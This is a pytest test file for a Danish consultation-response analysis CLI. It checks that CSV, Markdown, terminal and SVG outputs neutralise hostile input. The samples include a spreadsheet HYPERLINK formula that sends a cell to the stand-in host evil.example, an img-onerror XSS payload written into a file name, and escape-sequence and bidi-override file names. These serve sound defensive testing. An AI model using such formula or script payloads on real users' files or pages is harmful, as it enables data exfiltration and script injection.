"""What a hostile response or file name puts into an output stays text: no formula, no script, no markup."""

from __future__ import annotations

import csv
import io
import xml.dom.minidom
from pathlib import Path

import pytest
from typer.testing import CliRunner

from hoering.cli import app
from hoering.safe import csv_cell, markdown_code, plain

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'


def invoke(*args: object):
    return runner.invoke(app, [*map(str, args), "--model", "blank"], env={"COLUMNS": "200"})


def write(folder: Path, files: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


@pytest.mark.parametrize("cell", ["=1+1", "+45 1234", "-rm", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_a_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "+2", "-1.5", "0/+1/0", "Vi støtter", 3])
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert csv_cell(cell) == cell


def test_no_csv_output_lets_a_formula_through_and_raw_csv_does(tmp_path):
    corpus = write(
        tmp_path / "corpus",
        {
            "=cmd.txt": f"---\nbody: FagMED\nround: 2021\n---\n{HYPERLINK}\n\nVi støtter planen.\n",
            "b.txt": "---\nbody: Sektor MED\nround: 2023\n---\nVi støtter planen.\n",
        },
    )
    out = tmp_path / "ud"
    assert invoke("analyse", corpus, "-o", out, "-q").exit_code == 0
    for name in ("positions.csv", "files.csv", "matrix.csv", "matrix_wide.csv"):
        for row in rows(out / name):
            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values()), (name, row)
    assert any("'" + HYPERLINK in r.values() for r in rows(out / "positions.csv"))  # as the section heading
    assert {r["path"] for r in rows(out / "files.csv")} == {"'=cmd.txt", "b.txt"}
    stdout = invoke("analyse", corpus, "-f", "csv", "-q").stdout
    assert "\n=" not in stdout and ",=" not in stdout
    assert invoke("diff", corpus, "-o", tmp_path / "diff", "-q").exit_code == 0
    for path in (tmp_path / "diff").glob("*.csv"):
        assert not any(v.startswith(("=", "@")) for r in rows(path) for v in r.values())
    raw = tmp_path / "raw"
    assert invoke("analyse", corpus, "-o", raw, "-q", "--raw-csv").exit_code == 0
    assert any(HYPERLINK in r.values() for r in rows(raw / "positions.csv"))


def test_a_backtick_in_a_file_name_cannot_leave_its_code_span_in_markdown(tmp_path):
    name = "x` <img src=x onerror=alert(1)> `.txt"
    corpus = write(tmp_path / "corpus", {name: "---\nbody: FagMED\n---\nVi støtter planen.\n"})
    out = tmp_path / "notat.md"
    assert invoke("report", corpus, "--out", out, "-q").exit_code == 0
    text = out.read_text(encoding="utf-8")
    # Inside a code span Markdown shows "<img ...>" as text; the span must hold the whole name.
    assert "``x` <img src=x onerror=alert(1)> `.txt [" in text
    assert "<img" not in "".join(_outside_code_spans(text)).replace("\\<img", "")  # escaped in the table
    assert markdown_code("x` y") == "``x` y``"


def _outside_code_spans(text: str) -> list[str]:
    """The stretches of `text` outside inline code spans (CommonMark: a run of n backticks closes only n)."""
    import re

    return re.split(r"(`+)(?:.*?[^`])\1(?!`)", text)


def test_markup_in_a_marker_line_is_shown_as_written_in_the_terminal(tmp_path):
    corpus = write(
        tmp_path / "corpus",
        {"a.txt": "Høringssvar fra Fag[/]MED:\nVi støtter planen [sic] og indsatsen for unge.\n"},
    )
    for command in ("analyse", "positions"):
        run = invoke(command, corpus)
        assert run.exit_code == 0, run.output
    shown = invoke("positions", corpus, "--no-cache").stdout
    # The text keeps its markup as written; the body itself is canonicalised through the registry (FagMED).
    assert "[sic]" in shown
    assert "Fag[/]MED" in shown


def test_escape_sequences_and_bidi_overrides_in_file_names_do_not_reach_the_terminal(tmp_path):
    corpus = write(tmp_path / "corpus", {"a\x1b[31mrød\u202etxt.md": "", "b.txt": "Vi støtter planen.\n"})
    run = invoke("analyse", corpus)
    assert "\x1b[31m" not in run.stderr and "\u202e" not in run.stderr
    assert "a[31mrødtxt.md" in run.stderr
    assert plain("Fag\x07MED\u202e\n2") == "FagMED 2"


def test_a_control_character_in_a_body_name_keeps_the_svg_valid(tmp_path):
    corpus = write(tmp_path / "corpus", {"a.txt": "---\nbody: Fag\x01MED\n---\nVi støtter planen for unge.\n"})
    plot = tmp_path / "kort.svg"
    assert invoke("analyse", corpus, "--plot", plot, "-q").exit_code == 0
    xml.dom.minidom.parseString(plot.read_bytes())  # raises on invalid XML


# --- control files, --out, --jobs, file modes --------------------------------------------


@pytest.mark.parametrize("control", ["manifest.csv", "corrections.csv"])
def test_a_csv_field_over_the_reader_limit_names_the_file_and_line(tmp_path, control):
    header = "file,body\n" if control == "manifest.csv" else "doc,text,themes,stance\n"
    corpus = write(tmp_path / "corpus", {"a.txt": "Vi støtter planen.\n"})
    (corpus / control).write_text(header + "a.txt," + "x" * 200_000 + "\n", encoding="utf-8")
    run = invoke("analyse", corpus, "-q")
    assert run.exit_code == 1
    assert f"{corpus / control}:2: bad CSV in the" in run.stderr
    assert "internal error" not in run.stderr


def test_report_out_refuses_to_overwrite_a_response_of_the_corpus(tmp_path):
    corpus = write(tmp_path / "corpus", {"svar.md": "Vi støtter planen.\n"})
    run = invoke("report", corpus, "--out", corpus / "svar.md", "-q")
    assert run.exit_code == 2
    assert "is a file of the corpus" in run.stderr
    assert (corpus / "svar.md").read_text(encoding="utf-8") == "Vi støtter planen.\n"
    assert invoke("report", corpus, "--out", corpus / "notat.md", "-q").exit_code == 0


def test_more_jobs_than_cores_are_capped_with_a_note(tmp_path):
    import os

    corpus = write(tmp_path / "corpus", {"a.txt": "Vi støtter planen.\n"})
    run = invoke("analyse", corpus, "-q", "--jobs", 40, "--no-cache")
    assert run.exit_code == 0
    assert f"note: --jobs 40 is more than the {os.cpu_count()} CPU cores here; using {os.cpu_count()}" in run.stderr


def test_output_files_follow_the_umask(tmp_path):
    import os

    corpus = write(tmp_path / "corpus", {"a.txt": "Vi støtter planen.\n"})
    old = os.umask(0o022)
    try:
        assert invoke("analyse", corpus, "-o", tmp_path / "ud", "-q").exit_code == 0
    finally:
        os.umask(old)
    assert (tmp_path / "ud" / "positions.csv").stat().st_mode & 0o777 == 0o644


def test_control_files_in_the_corpus_are_announced_and_no_control_files_ignores_them(tmp_path):
    corpus = write(
        tmp_path / "corpus",
        {
            "a.txt": "Vi støtter planen for de unge.\n",
            "manifest.csv": "file,body,round\na.txt,FagMED,2021\n",
            "corrections.csv": "doc,text,themes,stance\na.txt,Vi støtter planen for de unge.,,concern\n",
        },
    )
    run = invoke("analyse", corpus, "-f", "json")
    assert "using manifest.csv: 1 row\n" in run.stderr and "using corrections.csv: 1 row\n" in run.stderr
    import json

    (position,) = json.loads(run.stdout)["positions"]
    assert (position["body"], position["stance"]) == ("FagMED", "concern")
    ignored = invoke("analyse", corpus, "-f", "json", "--no-control-files")
    assert "using " not in ignored.stderr
    (position,) = json.loads(ignored.stdout)["positions"]
    assert (position["body"], position["stance"]) != ("FagMED", "concern")
